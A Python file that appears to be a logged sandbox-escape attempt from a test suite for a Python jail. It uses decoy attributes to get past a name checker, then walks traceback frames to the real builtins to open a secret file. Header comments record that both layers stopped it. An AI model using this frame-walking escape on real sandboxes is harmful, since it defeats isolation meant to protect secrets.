# Tries: own attributes that start like frame internals (self.f_rate, self.co_owner) are
#   allowed since issue 9, and so is __exit__, which receives a traceback without naming
#   __traceback__; so give an own object tb_frame, f_back and f_builtins, then use the same
#   names on the real traceback to climb to the real builtins.
# Check layer: rejected (tb_frame, f_back, f_builtins are this Python's frame and traceback
#   attributes, whoever else uses the names).
# Sandbox layer: the walk reaches the real builtins, but the secret is not in the jail
#   -> failed.
class Decoy:
    def __init__(self):
        self.tb_frame = None
        self.f_back = None
        self.f_builtins = {}


class Catch:
    def __enter__(self):
        return self

    def __exit__(self, kind, value, tb):
        self.tb = tb
        return True


catch = Catch()
with catch:
    1 / 0
frame = catch.tb.tb_frame
while frame.f_back is not None:
    frame = frame.f_back
print("reached builtins:", "open" in frame.f_builtins)
print("ESCAPED" + ":", frame.f_builtins["open"]("@@SECRET_PATH@@").read())
